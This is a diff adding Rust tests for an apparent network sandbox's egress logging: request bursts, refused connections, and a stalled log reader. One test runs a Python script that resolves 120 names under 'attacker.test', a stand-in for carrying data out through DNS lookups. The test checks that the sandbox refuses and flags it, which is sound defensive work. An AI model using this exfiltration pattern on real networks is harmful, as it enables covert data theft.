@@ -257,3 +257,73 @@ fn egr_19_a_proxy_that_dies_lets_nothing_out_and_is_back_soon() {
         assert_eq!(world.entries("network.proxy").len(), 1);
     }
 }
+
+#[test]
+fn egr_19_a_burst_at_the_end_is_recorded_whole() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        let server = world.http(PUBLIC, 80);
+        let count = tests::scale(2_000, 300);
+        let script = format!(
+            "python3 - <<'X'
+import http.client
+c = http.client.HTTPConnection('site.test', 80)
+for i in range({count}): c.request('GET', '/%d' % i); c.getresponse().read()
+X"
+        );
+        world.run(&["--allow", "site.test:80"], &script).ok();
+        assert_eq!(server.asked().len(), count);
+        assert_eq!(world.entries("network.connect").len(), count, "{who:?}");
+        assert_eq!(world.entries("network.closed").len(), count);
+        assert_eq!(world.entries("network.counts")[0].detail["allowed"], count.to_string());
+    }
+}
+
+#[test]
+fn egr_19_whoever_says_nothing_and_asks_for_odd_names_is_recorded_too() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        let script = "python3 - <<'X'
+import socket
+def touch(host, port):
+    try: socket.create_connection((host, port), 2).close()
+    except OSError: pass
+touch('site.test', 22); touch('198.18.77.7', 80)
+for i in range(120):
+    try: socket.getaddrinfo('x%d.attacker.test' % i, 80)
+    except OSError: pass
+X";
+        world.run(&["--allow", "site.test:80"], script).ok();
+        let refused: Vec<String> =
+            world.entries("network.connect").iter().map(|entry| entry.detail["host"].clone()).collect();
+        assert_eq!(refused, ["site.test", "198.18.77.7"], "{who:?}");
+        // Data can be carried in names.
+        assert_eq!(world.entries("network.finding").len(), 1);
+        assert!(world.entries("network.counts")[0].detail["names_refused"].parse::<u32>().unwrap() >= 120);
+    }
+}
+
+#[test]
+fn egr_19_a_reader_who_does_not_read_holds_up_nobody() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        let _server = world.http(PUBLIC, 80);
+        let script = "for i in 1 2 3 4 5 6 7 8; do curl -s -o /dev/null \"http://site.test/$(head -c 12000 /dev/zero | tr '\\0' x)$i\"; done";
+        let mut command =
+            world.palisade(&["run", "--watch-net", "--allow", "site.test:80", "--", "sh", "-ec", script]);
+        let (reader, writer) = std::io::pipe().unwrap();
+        rustix::pipe::fcntl_setpipe_size(&writer, 4096).unwrap();
+        let mut child = command.stderr(writer).spawn().unwrap();
+        drop(command);
+        let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
+        let ended = loop {
+            if let Some(status) = child.try_wait().unwrap() {
+                break status;
+            }
+            assert!(std::time::Instant::now() < until, "it waits for a reader");
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        };
+        assert!(ended.success());
+        drop(reader);
+    }
+}
